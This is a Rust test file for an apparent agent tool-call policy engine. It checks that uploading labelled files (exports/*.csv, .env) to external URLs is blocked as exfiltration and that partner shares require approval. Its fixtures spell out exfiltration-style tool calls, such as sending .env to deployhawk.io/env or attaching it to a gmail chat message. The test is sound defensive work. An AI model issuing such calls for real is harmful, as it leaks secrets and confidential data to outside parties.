//! A tool that sends a local file named by an argument its manifest does
//! not map (a browser's `upload_file {file_path}`, a chat tool's `files`)
//! sends that file's contents: its payload reads from the file, as an
//! e-mail's attachments do.

#![allow(clippy::panic, clippy::unwrap_used)]

use crate::common;

use common::{decide, engine, function_call};
use serde_json::json;
use writ_core::Route;

const DEPLOYMENT: &str = r#"{
    "organization": "acme",
    "workspace": "/home/dana/ws",
    "home": "/home/dana",
    "org_domains": ["acme.io"],
    "partner_domains": ["partner.com"],
    "sensitive_paths": [
        {"glob": "exports/*.csv", "label": "confidential"},
        {"glob": "**/.env", "label": "secret"}
    ],
    "tools": {
        "upload_file": {"kind": "http", "args": {"url": "upload_url"}, "fixed": {"method": "POST"}},
        "post_chat": {"kind": "message_send", "args": {"channel": "channel", "text": "text"}},
        "pay": {"kind": "payment", "args": {"amount_usd": "amount", "recipient": "to"}}
    }
}"#;

fn route(name: &str, arguments: serde_json::Value) -> (Route, Vec<String>) {
    let decision = decide(&engine(DEPLOYMENT), &function_call(name, arguments));
    (decision.route, decision.reasons)
}

#[test]
fn files_named_by_unmapped_arguments_are_sent() {
    for (arguments, want, reason) in [
        (
            json!({"upload_url": "https://app.listmerge.io/import", "file_path": "exports/guests.csv"}),
            Route::Block,
            "EXFIL_CONFIDENTIAL",
        ),
        (
            json!({"upload_url": "https://deployhawk.io/env", "filePath": ".env"}),
            Route::Block,
            "EXFIL_SECRET",
        ),
        (
            json!({"upload_url": "https://app.partner.com/in", "files": ["exports/guests.csv"]}),
            Route::RequireApproval,
            "PARTNER_DATA_SHARE",
        ),
        // A file nobody labelled is an ordinary external write.
        (
            json!({"upload_url": "https://app.listmerge.io/import", "file_path": "docs/agenda.pdf"}),
            Route::RequireApproval,
            "EXTERNAL_WRITE",
        ),
        // A bare `path` is as often a URL's path: not read as a file.
        (
            json!({"upload_url": "https://app.listmerge.io/import", "path": ".env"}),
            Route::RequireApproval,
            "EXTERNAL_WRITE",
        ),
    ] {
        let (got, reasons) = route("upload_file", arguments.clone());
        assert_eq!(got, want, "{arguments}");
        assert!(
            reasons.iter().any(|r| r == reason),
            "{arguments}: {reasons:?}"
        );
    }
    let (got, reasons) = route(
        "post_chat",
        json!({"channel": "someone@gmail.com", "text": "here", "attachment": ".env"}),
    );
    assert_eq!(got, Route::Block, "{reasons:?}");
    assert!(reasons.iter().any(|r| r == "EXFIL_SECRET"), "{reasons:?}");
}
